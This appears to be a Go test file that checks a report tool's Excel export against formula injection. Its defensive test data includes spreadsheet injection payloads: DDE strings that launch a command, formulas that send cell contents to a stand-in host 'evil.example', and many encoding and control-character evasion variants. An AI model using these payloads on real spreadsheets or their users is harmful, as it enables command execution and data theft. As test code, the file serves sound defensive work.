package reports

import (
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"copydesk.dev/audit/record"
	"copydesk.dev/reports/workbook"
)

// formulas are what an article may say to be run by a spreadsheet program.
var formulas = []string{
	`=1+1`,
	`=cmd|' /C calc'!A0`,
	`=DDE("cmd";"/C calc";"x")`,
	`=HYPERLINK("https://evil.example/?"&A1,"Verdict")`,
	`=WEBSERVICE("https://evil.example/"&A1)`,
	`=IMPORTXML("https://evil.example/","//a")`,
	"\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\x00=1+1",
	`+1+1`, `-1+1`, `@SUM(A1:A9)`, `＝1+1`, `＋1`, `－1`, `＠x`,
	`"=1+1"`, `","=1+1`, "x\n=1+1",
	`_x003D_1+1`, `&#61;1+1`, `]]>=1+1`, `</t></is></c><c><f>1+1</f></c>`,
	"\u202e)(1+1=", "\ufeff=1+1", "\u200b=1+1", "\ufffe=1+1", "\xed\xa0\x80=1+1",
	"=" + strings.Repeat("A", 1<<20),
}

// formulaLog has formulas in every field that an article, a reviewer or an
// earlier night fills.
func formulaLog() *record.Log {
	log := sampleLog()
	for i, s := range formulas {
		id := "f" + string(rune('a'+i))
		log.Articles = append(log.Articles, record.Article{
			ID: id, Source: s, Role: "audited", Title: s, Byline: []string{s}, Outlet: s, Triage: "hold", TriageReason: s,
			Removed: []record.Removed{{Text: s, Reason: s}}, NotAssessed: s,
		})
		for _, check := range []string{"SRC001", "SRC008", "DUP002", "DUP006"} {
			log.Findings = append(log.Findings, record.Finding{
				ID: id + check, Check: check, Severity: record.High, Article: id, Source: s, Text: s, Trigger: s, Why: s, Fix: s,
				Status: "new", Before: s, After: s, Name: s, Nearest: s, Attribution: &record.Attribution{Name: s},
				Other: &record.Passage{Article: "elsewhere", Source: s, Text: s + " else"},
			})
		}
		log.Sources = append(log.Sources, record.Source{Name: s, SourceKind: s, Domain: s, Rating: s, Note: s})
		log.Rejected = append(log.Rejected, record.Rejected{Source: s, Reason: s})
		log.Matches = append(log.Matches, record.Match{Group: s, Context: "quotation", Reason: s, A: record.Passage{Article: id, Text: s}, B: record.Passage{Article: id, Text: s}})
		log.Summary.Notices = append(log.Summary.Notices, s)
	}
	return log
}

// ownFormula is the only kind of formula a workbook has: a link to a row of its
// own, to a page or to a file.
var ownFormula = regexp.MustCompile(`^HYPERLINK\((?:"#\w+!A"&MATCH\(\d+,\w+!\$A:\$A,0\)|"(?:[^"]|"")*"),(?:"(?:[^"]|"")*"|\d+)\)$`)

var isScheme = regexp.MustCompile(`^[A-Za-z][A-Za-z0-9.+-]+$`)

// TestWorkbookRunsNothing puts formulas into every field. In the workbook they
// are text, and they are text still for whoever saves a sheet as CSV and opens
// that.
func TestWorkbookRunsNothing(t *testing.T) {
	d := parsePackage(t, renderBytes(t, formulaLog(), workbook.MaxRows))
	for _, name := range d.order {
		if !slices.ContainsFunc([]string{
			"[Content_Types].xml", "_rels/", "docProps/", "xl/workbook.xml", "xl/styles.xml", "xl/theme/", "xl/_rels/",
			"xl/worksheets/", "xl/drawings/", "xl/charts/", "xl/tables/", "xl/sharedStrings.xml",
		}, func(known string) bool { return strings.HasPrefix(name, known) }) {
			t.Errorf("a part of an unknown kind: %s", name)
		}
		for _, kind := range []string{"ddeLink", "oleLink", "externalLink", "externalReference", "oleObject", "control", "connection", "hyperlink"} {
			if n := len(d.parts[name].all(kind)); n > 0 {
				t.Errorf("%s: %d of <%s>", name, n, kind)
			}
		}
		for _, rel := range d.parts[name].all("Relationship") {
			if rel.attr("TargetMode") == "External" {
				t.Errorf("%s leads out of the workbook: %s", name, rel.attr("Target"))
			}
		}
		if !strings.HasPrefix(name, "xl/worksheets/sheet") {
			continue
		}
		for _, c := range d.parts[name].all("c") {
			kind, shown := c.attr("t"), ""
			for _, list := range [][]*node{c.all("v"), c.all("t")} {
				for _, n := range list {
					shown += n.Text
				}
			}
			for _, f := range c.all("f") {
				if !ownFormula.MatchString(f.Text) {
					t.Errorf("%s!%s: formula %.100q", name, c.attr("r"), f.Text)
				}
				address, _, _ := strings.Cut(strings.TrimPrefix(f.Text, `HYPERLINK("`), `"`)
				scheme, _, ok := strings.Cut(address, ":")
				if ok && isScheme.MatchString(scheme) && scheme != "http" && scheme != "https" && scheme != "file" || strings.HasPrefix(address, "//") || strings.HasPrefix(address, `\\`) {
					t.Errorf("%s!%s: leads to %.100q", name, c.attr("r"), address)
				}
			}
			switch {
			case !slices.Contains([]string{"", "n", "str", "inlineStr", "s"}, kind):
				t.Errorf("%s!%s: a cell of type %s", name, c.attr("r"), kind)
			case kind == "str" && len(c.all("f")) == 0:
				t.Errorf("%s!%s: text that is no string of its own", name, c.attr("r"))
			case (kind == "inlineStr" || kind == "str") && workbook.Inert(shown) != shown:
				t.Errorf("%s!%s: begins like a formula: %.60q", name, c.attr("r"), shown)
			}
		}
	}
}

// TestFormulasAreShown reads the workbook back: what was said is there, letter
// by letter.
func TestFormulasAreShown(t *testing.T) {
	f := reopen(t, formulaLog())
	for sheet, column := range map[string]string{rejectedSheet: "Reason", claimsSheet: "Sentence", removedSheet: "Text removed"} {
		got := columnOf(rowsOf(t, f, sheet), column)
		for _, s := range formulas {
			want := strings.TrimPrefix(workbook.Clean(s), "'")
			if !slices.ContainsFunc(got, func(cell string) bool {
				return strings.TrimPrefix(cell, "'") == want || strings.HasSuffix(cell, "…") && strings.HasPrefix(want, strings.TrimSuffix(strings.TrimPrefix(cell, "'"), "…"))
			}) {
				t.Errorf("%s: %.60q is not there", sheet, want)
			}
		}
	}
}

// TestWriteFormulas writes the workbook of formulas for testdata/office.sh, if
// COPYDESK_FORMULAS names a file.
func TestWriteFormulas(t *testing.T) {
	path := os.Getenv("COPYDESK_FORMULAS")
	if path == "" {
		t.Skip("COPYDESK_FORMULAS names no file")
	}
	data := renderBytes(t, formulaLog(), workbook.MaxRows)
	if _, err := excelize.OpenFile(path); err == nil {
		t.Fatalf("%s is there already", filepath.Clean(path))
	}
	if err := os.WriteFile(path, data, 0o600); err != nil {
		t.Fatal(err)
	}
}
